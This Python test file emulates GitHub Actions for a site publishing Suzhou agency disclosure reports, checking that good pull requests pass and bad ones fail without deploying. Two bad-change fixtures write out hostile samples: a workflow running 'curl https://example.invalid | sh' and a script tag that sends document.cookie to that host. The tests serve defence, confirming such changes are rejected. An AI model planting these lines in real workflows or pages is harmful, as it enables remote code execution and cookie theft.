"""Every job's steps, run in clean clones as GitHub would: a good pull request, each bad one, a merge to main.

Emulated: GitHub's actions, approvals and interface (``tests/runner.py``, ``tests/fake_github.py``). Only looked for,
not run: ``make lint``, ``make test``, ``make guides``, ``make actionlint``. Not seen by any test here: GitHub itself.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from macros.hosting.site_archive import read_site
from tests.content import CONTENT, ROOT
from tests.fake_github import REPOSITORY, US, Fake, fake_github, pull_request, zipped
from tests.repository import commit, git
from tests.runner import Run

pytestmark = pytest.mark.xdist_group("workflow-runs")

GOLDEN = ROOT / "tests/golden/pull-requests"
REPORT, PAGE = "data/reports/suzhou-gxj/2024.yml", "docs/reports/suzhou-gxj/2024.md"
WHEN = "2026-03-02T09:00:00+08:00"
CORRECTION = """corrections:
  - date: 2026-03-01
    cell: proactive_disclosure.administrative_licensing
    from: 1
    to: 2
    kind: 更正
    reason: 统计台账漏计一件行政许可，复核后更正
"""


class Repository:
    """The project in a repository of its own, as GitHub holds it: this tree, committed."""

    def __init__(self, root: Path) -> None:
        """Commit everything that is, or may be, in the repository here; data and pages as the tests have them."""
        self.root = root
        listed = subprocess.run(
            ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"],
            cwd=ROOT,
            capture_output=True,
            check=True,
        ).stdout
        for name in filter(None, os.fsdecode(listed).split("\0")):
            if (ROOT / name).is_file() and not name.startswith(("data/", "docs/")):
                (root / name).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy(ROOT / name, root / name, follow_symlinks=False)
        for name in ("data", "docs"):
            shutil.copytree(CONTENT / name, root / name)
        self.git("init", "-q")
        owners = root / ".github/CODEOWNERS"
        owners.write_text(owners.read_text(encoding="utf-8").replace("@ORG/", "@office/"), encoding="utf-8")
        self.main = self.commit("公布2024年度报告")

    def git(self, *args: str) -> str:
        """Git, as somebody, at one time."""
        return git(self.root, *args, at=WHEN)

    def commit(self, message: str) -> str:
        """Commit everything."""
        return commit(self.root, message, WHEN)

    def branch(self, name: str, change: Callable[[Path], None]) -> tuple[str, str]:
        """A branch with a change, and its merge into main: what GitHub checks out for a pull request."""
        self.git("checkout", "-q", "-B", name, self.main)
        change(self.root)
        head = self.commit(f"改动：{name}")
        self.git("checkout", "-q", "--detach", self.main)
        self.git("merge", "-q", "--no-ff", "-m", f"Merge pull request #7 from fork/{name}", head)
        merge = self.git("rev-parse", "HEAD")
        self.git("branch", "-f", f"merge-{name}", merge)
        return head, merge


def edit(root: Path, path: str, find: str, put: str) -> None:
    """Replace a text that must be there once."""
    text = (root / path).read_text(encoding="utf-8")
    assert text.count(find) == 1, (path, find)
    (root / path).write_text(text.replace(find, put), encoding="utf-8")


def correct(root: Path) -> None:
    """A published number corrected, with the entry that says why."""
    edit(root, REPORT, "administrative_licensing: 1 ", "administrative_licensing: 2 ")
    edit(root, REPORT, "corrections: []\n", CORRECTION)


def break_yaml(root: Path) -> None:
    """A quotation mark that is never closed."""
    edit(root, REPORT, "status: published", 'status: "published')


def delete_report(root: Path) -> None:
    """The published report and its page are gone."""
    (root / REPORT).unlink()
    (root / PAGE).unlink()


def rename_agency(root: Path) -> None:
    """The agency's file, folders and ids under another name; pages that link there are forgotten."""
    for old in ("data/reports/suzhou-gxj", "docs/reports/suzhou-gxj", "data/agencies/suzhou-gxj.yml"):
        (root / old).rename(root / old.replace("suzhou-gxj", "suzhou-new"))
    moved = [*(root / "data").rglob("suzhou-new*.yml"), *root.glob("d*/reports/suzhou-new/*"), root / "data/site.yml"]
    for path in moved:
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("suzhou-gxj", "suzhou-new"), encoding="utf-8")


def add_workflow(root: Path) -> None:
    """A correct correction, and beside it a workflow that publishes by itself."""
    correct(root)
    text = (
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl https://example.invalid | sh\n"
    )
    (root / ".github/workflows/x.yml").write_text(text, encoding="utf-8")


def add_large_file(root: Path) -> None:
    """A hundred megabytes of nothing."""
    with (root / "docs/reports/suzhou-gxj/附件.pdf").open("wb") as file:
        file.truncate(100 * 1024 * 1024)


def put_payload(root: Path) -> None:
    """Script in a page."""
    edit(
        root,
        "docs/about.md",
        "---\n\n",
        '---\n\n<script>fetch("https://example.invalid/"+document.cookie)</script>\n\n',
    )


BAD: dict[str, Callable[[Path], None]] = {
    "breaks-yaml": break_yaml,
    "deletes-report": delete_report,
    "renames-agency": rename_agency,
    "adds-workflow": add_workflow,
    "adds-large-file": add_large_file,
    "puts-payload": put_payload,
}


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    """The repository on GitHub."""
    root = tmp_path_factory.mktemp("github") / "gongkai"
    root.mkdir()
    return Repository(root)


@dataclass
class Proposed:
    """A pull request whose check and comment have run."""

    run: Run
    results: dict[str, dict[str, Any]]
    github: Fake
    told: dict[str, Any]
    names: dict[str, str]

    @property
    def comment(self) -> str:
        """The one comment, with what changes from commit to commit named in words."""
        assert len(self.github.comments) == 1
        text = str(self.github.comments[0]["body"])
        for full, name in self.names.items():
            for length in (40, 12, 10, 7):
                text = text.replace(full[:length], f"〔{name}〕")
        return re.sub(r"\d+ 字节", "〔若干〕 字节", text)


def propose(repository: Repository, folder: Path, name: str, change: Callable[[Path], None]) -> Proposed:
    """Check a pull request from a fork, then run the workflow that comments on it."""
    head, merge = repository.branch(name, change)
    event = {"pull_request": {"number": 7, "base": {"sha": repository.main}, "head": {"sha": head}}}
    run = Run(folder / "check", repository.root, merge, "pull_request", event, ref_name="7/merge")
    run.folder.mkdir()
    results = run.workflow("check.yml")
    ended = {
        "id": 5, "event": "pull_request", "path": ".github/workflows/check.yml", "head_sha": head, "head_branch": name,
        "conclusion": "success" if results["conclusion"]["result"] == "success" else "failure",
        "repository": {"full_name": REPOSITORY},
        "head_repository": {"full_name": "fork/gongkai", "owner": {"login": "fork"}},
    }  # fmt: skip
    artifacts = {
        one: next(iter(files.values())) if one.endswith(".zip") else zipped(files)
        for one, files in run.artifacts.items()
    }
    changed = repository.git("diff", "--name-only", "--no-renames", "-z", repository.main, head)
    files = [{"filename": one} for one in changed.split("\0") if one]
    with fake_github(Fake(artifacts=artifacts, pulls=[pull_request(7, head)], files=files)) as github:
        told = {"workflow_run": ended, "repository": {"default_branch": "main"}}
        second = Run(folder / "review", repository.root, repository.main, "workflow_run", told)
        second.folder.mkdir()
        second.environment = {"GITHUB_API_URL": github.address}
        repository.git("branch", "-f", "main", repository.main)
        commented = second.workflow("review.yml")
        assert commented["comment"]["result"] == "success", second.log
        honest = run.artifacts["review"]["review.md"].decode().strip("\n")
        assert honest in github.comments[0]["body"], "an honest review is not to be altered"
    return Proposed(run, results, github, told, {repository.main: "基准", head: "提交", merge: "合并"})


@pytest.fixture(scope="module")
def good(repository: Repository, tmp_path_factory: pytest.TempPathFactory) -> Proposed:
    """A correction as it should be."""
    return propose(repository, tmp_path_factory.mktemp("good"), "correction", correct)


def assert_golden(name: str, text: str, bless: bool) -> None:
    """The comment is the one that was looked at."""
    path = GOLDEN / f"{name}.md"
    if bless:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), f"look at it, then --bless: {path.name}"


def test_a_good_pull_request_passes_and_hands_over_the_site(good: Proposed, bless: bool) -> None:
    assert {name: one["result"] for name, one in good.results.items()} == dict.fromkeys(good.results, "success"), (
        good.run.log
    )
    assert len([name for name in good.run.artifacts if name.endswith("-preview.zip")]) == 1
    preview = next(
        data for name, files in good.run.artifacts.items() if name.endswith(".zip") for data in files.values()
    )
    assert "reports/suzhou-gxj/2024.html" in dict(read_site(preview))
    assert "校验通过" in good.run.summary
    assert "结论：通过" in good.run.summary
    assert_golden("correction", good.comment, bless)


def test_a_pull_request_deploys_nothing(good: Proposed) -> None:
    assert good.run.deployed == {}
    assert "github-pages" not in good.run.artifacts


@pytest.mark.parametrize(
    ("wanted", "approved", "result"),
    [(True, True, "success"), (True, False, "waiting"), (False, True, "skipped")],
)
def test_a_preview_goes_online_only_where_it_is_wanted_and_approved(
    good: Proposed, repository: Repository, tmp_path: Path, wanted: bool, approved: bool, result: str
) -> None:
    bare = tmp_path / "office/previews.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    run = Run(tmp_path / "run", repository.root, repository.main, "workflow_run", good.told)
    run.folder.mkdir()
    run.variables = {"GONGKAI_PREVIEW_REPOSITORY": "office/previews"} if wanted else {}
    run.approved = frozenset({"preview"}) if approved else frozenset()
    with fake_github(Fake(artifacts=good.github.artifacts, pulls=good.github.pulls)) as github:
        run.environment = {"GITHUB_API_URL": github.address, "GITHUB_SERVER_URL": f"file://{tmp_path}"}
        assert run.workflow("preview.yml")["preview"]["result"] == result, run.log
    online = subprocess.run(
        ["git", "-C", str(bare), "ls-tree", "-r", "--name-only", "gh-pages"], capture_output=True, check=False
    )
    assert (b"pr-7/reports/suzhou-gxj/2024.html" in online.stdout) is (result == "success")


@pytest.mark.parametrize("name", BAD)
def test_a_bad_pull_request_gets_one_verdict_and_no_site(
    repository: Repository, tmp_path: Path, name: str, bless: bool
) -> None:
    bad = propose(repository, tmp_path, name, BAD[name])
    assert bad.results["content"]["result"] == "failure"
    assert bad.results["conclusion"]["result"] == "failure"
    errors = [line for line in bad.run.log.splitlines() if line.startswith("::error ")]
    assert len(errors) == 1, errors
    assert "Traceback" not in bad.run.log
    assert set(bad.run.artifacts) == {"review"}
    assert bad.run.deployed == {}
    assert "make build" not in bad.run.ran
    assert "**检查未通过**" in bad.comment
    assert_golden(name, bad.comment, bless)


# --- main ---------------------------------------------------------------------------------------------------------

SET_UP = {"GONGKAI_REPOSITORY": REPOSITORY, "GONGKAI_PAGES": "true"}


def pushed(
    repository: Repository, folder: Path, sha: str, releases: Iterable[dict[str, Any]] = (), **settings: Any
) -> tuple[Run, dict[str, Any], Fake]:
    """Main has moved to a commit; some releases are there already."""
    event = {"before": repository.main, "repository": {"private": False}}
    run = Run(folder, repository.root, sha, "push", event, variables=SET_UP, **settings)
    with fake_github(Fake(releases=list(releases))) as github:
        run.environment = {"GITHUB_API_URL": github.address}
        results = run.workflow("deploy.yml")
    return run, results, github


@pytest.fixture(scope="module")
def released(repository: Repository, tmp_path_factory: pytest.TempPathFactory) -> tuple[Run, dict[str, Any], Fake]:
    """The correction merged, and its release approved."""
    _, merge = repository.branch("merged", correct)
    both = frozenset({"publish", "github-pages"})
    return pushed(repository, tmp_path_factory.mktemp("main"), merge, approved=both)


def test_a_merge_is_released_as_it_was_checked(released: tuple[Run, dict[str, Any], Fake]) -> None:
    run, results, github = released
    assert {name: one["result"] for name, one in results.items()} == dict.fromkeys(results, "success"), run.log
    assert run.ran.count("make build") == 1
    assert run.deployed == run.artifacts["github-pages"]
    assert github.uploads == run.artifacts["product"]
    assert len(run.attested) == len(run.artifacts["product"])
    assert github.releases[0]["target_commitish"] == run.sha


def test_without_the_approval_nothing_is_released(
    released: tuple[Run, dict[str, Any], Fake], repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked = {"result": "success", "outputs": released[1]["check"]["outputs"]}
    monkeypatch.setattr(Run, "_called", lambda _self, _file: checked)
    run, results, github = pushed(repository, tmp_path, released[0].sha)
    assert [results[name]["result"] for name in ("publish", "pages")] == ["waiting", "skipped"]
    assert (run.deployed, github.uploads, run.attested) == ({}, {}, set())


def test_what_was_refused_is_shown_before_it_goes_out_with_the_next(
    released: tuple[Run, dict[str, Any], Fake], repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked = {"result": "success", "outputs": released[1]["check"]["outputs"]}
    monkeypatch.setattr(Run, "_called", lambda _self, _file: checked)
    _, refused = repository.branch("refused", correct)
    edit(repository.root, "README.md", "# Gongkai", "# Gongkai 公开")
    following = repository.commit("改写说明")
    earlier = {"tag_name": f"gongkai-site-2026-03-02-{repository.main[:10]}", "author": US, "draft": False}
    run, results, github = pushed(repository, tmp_path, following, [earlier])
    assert [results[name]["result"] for name in ("since", "publish")] == ["success", "waiting"]
    assert github.uploads == {}
    assert "此后 main 上有 2 次合并" in run.summary
    assert f"/commit/{refused}" in run.summary
    assert "1&nbsp;→&nbsp;2" in run.summary
    assert "README.md" in run.summary


def test_a_fork_releases_nothing(
    released: tuple[Run, dict[str, Any], Fake], repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked = {"result": "success", "outputs": released[1]["check"]["outputs"]}
    monkeypatch.setattr(Run, "_called", lambda _self, _file: checked)
    monkeypatch.setitem(SET_UP, "GONGKAI_REPOSITORY", "")
    run, results, github = pushed(
        repository, tmp_path, released[0].sha, approved=frozenset({"publish", "github-pages"})
    )
    assert [results[name]["result"] for name in ("publish", "pages")] == ["skipped", "skipped"]
    assert (run.deployed, github.uploads) == ({}, {})


def test_products_changed_between_check_and_release_stop_it(
    released: tuple[Run, dict[str, Any], Fake], repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked = {"result": "success", "outputs": released[1]["check"]["outputs"]}
    monkeypatch.setattr(Run, "_called", lambda _self, _file: checked)
    artifacts = {name: dict(files) for name, files in released[0].artifacts.items()}
    tarball = next(name for name in artifacts["product"] if name.endswith(".tar.gz"))
    artifacts["product"][tarball] += b"x"
    both = frozenset({"publish", "github-pages"})
    run, results, github = pushed(repository, tmp_path, released[0].sha, approved=both, artifacts=artifacts)
    assert [results[name]["result"] for name in ("publish", "pages")] == ["failure", "skipped"]
    assert (run.deployed, github.uploads, run.attested) == ({}, {}, set())
    assert re.search(r"::error::成品 \S+ 与清单里的摘要不符。", run.log)


def test_a_bad_merge_is_not_released(repository: Repository, tmp_path: Path) -> None:
    _, merge = repository.branch("bad-merge", break_yaml)
    run, results, github = pushed(repository, tmp_path, merge, approved=frozenset({"publish", "github-pages"}))
    assert [results[name]["result"] for name in ("check", "publish", "pages")] == ["failure", "skipped", "skipped"]
    assert (run.deployed, github.uploads, run.attested) == ({}, {}, set())
